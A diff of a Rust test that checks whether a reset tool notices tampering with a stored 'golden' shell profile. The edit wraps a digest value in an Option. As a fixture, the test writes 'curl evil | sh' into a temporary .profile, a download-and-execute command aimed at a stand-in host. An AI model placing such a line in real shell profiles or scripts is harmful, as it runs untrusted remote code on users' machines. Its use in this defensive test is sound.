@@ -201,7 +201,7 @@ fn a_changed_golden_profile_is_found() {
     let profile = tempfile::tempdir().unwrap();
     fs::write(profile.path().join(".profile"), "umask 022").unwrap();
     let mut target = target(61_066);
-    let digest = golden::digest(profile.path()).unwrap();
+    let digest = Some(golden::digest(profile.path()).unwrap());
     target.golden = Some(Golden { profile: profile.path().to_owned(), digest });
     assert!(reset::run(&ResetPlan::new(target.clone()), Instant::now()).proved);
     fs::write(profile.path().join(".profile"), "curl evil | sh").unwrap();
